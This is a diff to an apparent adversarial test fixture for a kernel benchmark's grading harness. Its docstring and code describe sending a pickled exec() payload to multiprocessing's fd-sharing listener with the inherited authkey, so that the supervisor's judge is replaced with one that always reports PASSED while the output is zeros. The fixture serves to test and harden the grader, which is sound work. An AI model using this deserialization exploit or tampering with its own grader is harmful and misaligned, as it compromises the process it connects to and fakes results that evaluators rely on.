@@ -4,12 +4,13 @@ multiprocessing DupFd: a listener thread in the supervisor (multiprocessing.reso
 under /tmp/pymp-*/) hands each fd to whoever connects with the supervisor's authentication key, and reads
 what the client sends with Connection.recv(), which is pickle.loads. A worker started by multiprocessing's
 spawn is given that key (multiprocessing.current_process().authkey). So in its first call this candidate
-connects to the listener (its address taken from torch's own rebuild of the shared tensors, or else from
-/proc/net/unix when torch asked none) with the inherited key and sends an object whose __reduce__ is exec(PAYLOAD): PAYLOAD runs
-in the supervisor, writes the canary file $SOLBENCH_ADVERSARY_CANARY (proof), and replaces
-solbench.supervisor.verdict's judge with one that says PASSED (and its count of outliers with none). The forward writes zeros: `passed`, tens of x
-faster than the seed. It also tries the other keys a worker might hold (the environment's, torch's) on every
-listener it can find. Only with $SOLBENCH_ADVERSARY_LISTENER set (the payload would patch a pytest process
+connects to the listener (its address taken from torch's own rebuild of the shared tensors) with the
+inherited key, and any key its environment holds, and sends an object whose __reduce__ is exec(PAYLOAD):
+PAYLOAD runs in the supervisor, writes the canary file $SOLBENCH_ADVERSARY_CANARY (proof), and replaces
+solbench.supervisor.verdict's judge with one that says PASSED (and its count of outliers with none). The
+forward writes zeros. Before the fix (a CPU run of smoke): the canary written by the supervisor, 9 of 10
+scenarios `passed` at 21-80x the seed. It tries no listener it was not told of: on a shared machine those
+are other people's. Only with $SOLBENCH_ADVERSARY_LISTENER set (the payload would patch a pytest process
 that runs the corpus in-process); without it, the forward's zeros are all there is.
 
 expect: mismatch
@@ -63,15 +64,6 @@ def _watch_torchs_rebuild():
     resource_sharer._ResourceSharer.get_connection = staticmethod(get_connection)
 
 
-def _listeners_in_proc_net_unix():
-    try:
-        lines = open("/proc/net/unix").read().splitlines()[1:]
-    except OSError:
-        return []
-    paths = [line.split()[-1] for line in lines if len(line.split()) >= 8]
-    return [p for p in paths if ("/pymp-" in p and "listener-" in p) or "torch" in p]
-
-
 def _keys():
     import multiprocessing
 
@@ -85,7 +77,7 @@ def _attack() -> str:
     from multiprocessing.connection import Client
 
     tried = []
-    for address in dict.fromkeys(_seen_addresses or _listeners_in_proc_net_unix()):
+    for address in dict.fromkeys(_seen_addresses):
         for key in _keys():
             try:
                 conn = Client(address, authkey=key)
@@ -100,7 +92,7 @@ def _attack() -> str:
                 except (EOFError, OSError):
                     pass
             tried.append(f"{address}: sent")
-    return "; ".join(tried) or "no listener found"
+    return "; ".join(tried) or "no listener named by the tensors it was sent"
 
 
 _done = False
